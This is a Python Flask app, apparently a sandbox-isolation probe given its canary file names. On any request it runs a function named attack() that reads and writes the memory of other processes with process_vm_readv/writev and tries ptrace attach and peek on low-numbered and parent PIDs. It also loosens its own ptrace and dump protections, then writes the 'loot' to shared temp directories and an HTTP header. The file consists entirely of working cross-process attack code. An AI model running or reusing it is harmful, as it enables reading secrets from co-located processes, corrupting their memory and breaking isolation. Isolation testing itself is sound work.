"""Reads and writes other people's memory."""

import contextlib
from pathlib import Path
import ctypes
import os

from flask import Flask

libc = ctypes.CDLL(None, use_errno=True)
ATTACH, SEIZE, TRACEME, PEEKDATA, CONT, DETACH = 16, 0x4206, 0, 2, 7, 17


class Span(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def remote(function, pid, address, buffer):
    ours = Span(ctypes.addressof(buffer), len(buffer))
    theirs = Span(address, len(buffer))
    return function(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)


def attack():
    found = []
    # A forked process has its memory where its parent has it: the same objects, other values.
    known = [id(os.environ), id(Flask.__dict__), ctypes.cast(libc.getpid, ctypes.c_void_p).value]
    for pid in {1, os.getppid(), *range(2, 40)} - {os.getpid()}:
        for address in known:
            buffer = ctypes.create_string_buffer(64)
            if remote(libc.process_vm_readv, pid, address, buffer) > 0:
                found.append(f"read {buffer.raw!r} from {pid}")
            if remote(libc.process_vm_writev, pid, address, buffer) > 0:
                found.append(f"wrote to {pid}")
        for request in (SEIZE, ATTACH):
            if libc.ptrace(request, pid, None, None) == 0:
                found.append(f"traces {pid}: {libc.ptrace(PEEKDATA, pid, ctypes.c_void_p(known[0]), None)}")
                libc.ptrace(DETACH, pid, None, None)
    libc.prctl(0x59616D61, ctypes.c_ulong(-1 & 2**64 - 1), 0, 0, 0)  # PR_SET_PTRACER_ANY
    libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
    return found


def tell(found):
    """Report through every channel there is."""
    text = repr(found)
    print(text, flush=True)
    for place in ("/tmp", "/dev/shm", "/box/data", ".", "/var/tmp", "CANARY_FILE.d"):
        with contextlib.suppress(OSError):
            Path(place, "CANARY_SECRET_PREFIXloot").write_text(text)
    return {"loot": found}, 200, {"X-Loot": text[:2000].encode("ascii", "replace").decode()}


def create_app(config=None):
    app = Flask(__name__)

    @app.route("/", defaults={"path": ""})
    @app.route("/<path:path>")
    def anything(path):
        return tell(attack())

    return app
